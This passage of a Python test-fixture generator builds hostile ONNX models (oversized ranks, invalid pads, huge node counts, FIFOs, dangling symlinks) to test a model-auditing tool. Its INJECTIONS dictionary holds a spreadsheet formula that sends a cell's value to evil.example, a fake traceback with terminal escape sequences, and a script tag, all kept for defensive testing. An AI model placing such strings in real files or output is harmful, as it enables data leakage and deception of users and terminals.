proto("rank_100_input", 4, "tensor 'x' has rank 100 (limit 32)", "an input of rank 100 (numpy stops at 64 dimensions)",
      lambda: model([helper.make_node("Relu", ["x"], ["y"], name="relu")], inputs=[("x", [1] * 100)]))
proto("avgpool_pads_over_kernel", 4, "its pads [2, 2, 2, 2] are not all smaller than its kernel [2, 2]",
      "AveragePool with pads >= kernel (onnxruntime refuses it with a coloured multi-line log)",
      lambda: model([helper.make_node("AveragePool", ["x"], ["p"], name="pool", kernel_shape=[2, 2], pads=[2, 2, 2, 2]),
                     helper.make_node("Relu", ["p"], ["y"], name="relu")], inputs=[("x", [1, 1, 4, 4])]))
proto("wide_sum_over_limit", 4, "has 5000 inputs (limit 4096)", "a Sum of 5000 operands (time grows with them)",
      lambda: wide_sum(5000))
proto("many_io_over_limit", 4, "the graph has 3000 inputs and 3000 outputs (limit 4096 in all)",
      "3000 inputs and outputs (onnxruntime's session build grows faster than linearly with them)", lambda: many_io(3000))

#: model-supplied strings that try to inject: a spreadsheet formula, a fake traceback line, ANSI
#: colour, an OSC sequence setting the terminal title, HTML (tests/test_hostile_io.py)
INJECTIONS = {"producer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
              "node": "tanh\nTraceback (most recent call last):\n  fake\x1b[31mRED\x1b]0;pwned\x07",
              "doc": "<script>alert(1)</script>"}


def injecting() -> onnx.ModelProto:
    """The MLP with a Tanh (refused: its name reaches the error message) named, and a producer set,
    with the :data:`INJECTIONS` strings."""
    m = mlp()
    m.graph.node[1].op_type, m.graph.node[1].name = "Tanh", INJECTIONS["node"]
    m.producer_name, m.producer_version = INJECTIONS["producer"], INJECTIONS["doc"]
    return m


def special_entries(folder: Path) -> dict[str, str]:
    """``*.onnx`` entries in ``folder`` that are not regular files, with the reason an audit must
    report for each: a FIFO (reading it would block) and a dangling symlink (POSIX only)."""
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "fifo.onnx")
    os.symlink(folder / "gone.onnx", folder / "dangling.onnx")
    return {"fifo.onnx": "not a regular file (a FIFO)", "dangling.onnx": "a dangling symbolic link"}


# ---- scale: built at any size n (tests/test_hostile_io.py, tools/scaling.py) -----------------


def wide_sum(n: int) -> onnx.ModelProto:
    """y = Relu(Sum(x, x, ..., x)): one Sum node with ``n`` inputs (a 1.2 MB file at n = 100k)."""
    return model([helper.make_node("Sum", ["x"] * n, ["s"], name="sum"), helper.make_node("Relu", ["s"], ["y"])])


def gemm_chain(n: int) -> onnx.ModelProto:
    """``n`` Gemm nodes in a row, each 4 → 4 with the same weight and a Relu-free path (2 KB + 30 B/node)."""
    w = np.eye(4, dtype=np.float32)
    nodes = [helper.make_node("Gemm", [f"t{i}" if i else "x", "W"], [f"t{i + 1}" if i < n - 1 else "y"], name=f"g{i}")
             for i in range(n)]
    return model(nodes, inits={"W": w})


def many_io(n: int) -> onnx.ModelProto:
    """``n`` graph inputs, each through its own Relu to its own graph output."""
    nodes = [helper.make_node("Relu", [f"x{i}"], [f"y{i}"]) for i in range(n)]
    return model(nodes, inputs=[(f"x{i}", [1, 2]) for i in range(n)], outputs=[(f"y{i}", None) for i in range(n)])


#: the scale builders, by name
SCALE = {"wide_sum": wide_sum, "gemm_chain": gemm_chain, "many_io": many_io}


# --------------------------------------------------------------------------------------------


def generate(out_dir: str | os.PathLike) -> dict[str, dict]:
    """Write every case under ``out_dir`` and ``out_dir/expected.json``; returns the mapping."""
    root = Path(out_dir)
    root.mkdir(parents=True, exist_ok=True)
    (root / "secret.bin").write_bytes(W1.tobytes())  # valid weights outside every case's folder
    expected = {}
    for name, c in CASES.items():
        path = root / c.path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            c.write(path, root)
        except (NotImplementedError, OSError) as exc:  # no symlinks or FIFOs on this platform
            print(f"skipped {name}: {exc}", file=sys.stderr)
            continue
        expected[c.path(name)] = {"exit_code": c.exit_code, "message": c.message, "why": c.why}
    (root / "expected.json").write_text(json.dumps(expected, indent=2) + "\n")
    return expected


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print(__doc__.strip().splitlines()[0], "\nusage: python tools/make_hostile.py OUT_DIR", file=sys.stderr)
        return 2
    expected = generate(args[0])
    print(f"wrote {len(expected)} hostile models and expected.json to {args[0]}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
